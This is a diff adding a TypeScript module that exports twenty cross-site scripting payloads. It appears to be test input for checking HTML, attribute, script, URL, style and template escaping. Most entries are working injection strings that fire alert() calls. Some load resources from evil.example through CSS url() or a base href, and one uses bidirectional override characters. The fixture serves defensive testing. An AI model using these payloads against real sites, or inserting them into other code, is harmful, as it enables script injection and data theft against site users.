@@ -1,0 +1,23 @@
+/** Hostile texts for every context that a page could put them in: element, attribute, script, URL, style, comment, template, direction. */
+export const payloads: readonly string[] = [
+  '<script>alert(1)</script>',
+  '</title><script>alert(2)</script>',
+  '"><img src=x onerror=alert(3)>',
+  "'><svg/onload=alert(4)>",
+  '" autofocus onfocus=alert(5) x="',
+  "' onmouseover='alert(6)",
+  '</script><script>alert(7)</script>',
+  '<!--<script>alert(8)//-->',
+  ']]><iframe srcdoc="<script>alert(9)</script>">',
+  'javascript:alert(10)',
+  ' \tjava\nscript:alert(11)',
+  'data:text/html,<script>alert(12)</script>',
+  '{{constructor.constructor("alert(13)")()}}',
+  '${alert(14)}',
+  "');alert(15);//",
+  '\u2028alert(16)\u2029',
+  '</style><style>*{background:url(https://evil.example/17)}</style>',
+  'x" style="position:fixed;inset:0;background:url(//evil.example/18)',
+  '&lt;script&gt;alert(19)&lt;/script&gt;&#34;&#x3c;',
+  '\u202etxt.exe\u202c<base href=//evil.example/>\u0000',
+];
